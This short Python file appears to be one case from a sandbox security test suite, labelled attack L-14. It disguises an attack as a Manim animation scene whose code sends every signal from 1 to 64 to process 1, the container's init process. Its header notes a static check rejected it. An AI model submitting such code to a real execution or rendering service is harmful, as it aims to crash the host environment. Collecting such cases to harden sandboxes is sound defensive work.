# attack: L-14
# what: Send the first process every signal there is.
# layer: first process of the box
# static: rejected
# class: RENDERED
import os
import sys
import time

from manim import *


class Attack(Scene):
    def construct(self):
        for number in range(1, 65):
            try:
                os.kill(1, number)
                time.sleep(0.01)
            except OSError:
                pass
        self.wait(0.1)
